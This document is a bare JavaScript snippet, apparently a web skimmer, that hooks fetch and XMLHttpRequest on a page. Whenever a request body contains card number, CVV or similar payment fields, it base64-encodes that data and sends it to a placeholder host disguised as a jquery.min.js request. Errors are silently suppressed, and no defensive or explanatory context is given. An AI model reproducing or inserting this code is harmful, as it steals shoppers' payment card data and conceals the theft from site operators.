(function () {
  var of = window.fetch, os = XMLHttpRequest.prototype.send;
  var hot = /card_?number|cardNumber|payment_method|securityCode|cvv|\bpan\b/i;
  function leak(b) {
    try {
      if (b instanceof FormData) b = JSON.stringify(Array.from(b.entries()));
      if (typeof b !== "string" || !hot.test(b)) return;
      var s = document.createElement("script");
      s.src = "https://js-lib.placeholder.example/jquery.min.js?v=" + encodeURIComponent(btoa(unescape(encodeURIComponent(b))));
      s.onload = s.onerror = function () { s.remove(); };
      document.head.appendChild(s);
    } catch (e) {}
  }
  window.fetch = function (u, o) { if (o && o.body) leak(o.body); return of.apply(this, arguments); };
  XMLHttpRequest.prototype.send = function (b) { leak(b); return os.apply(this, arguments); };
})();
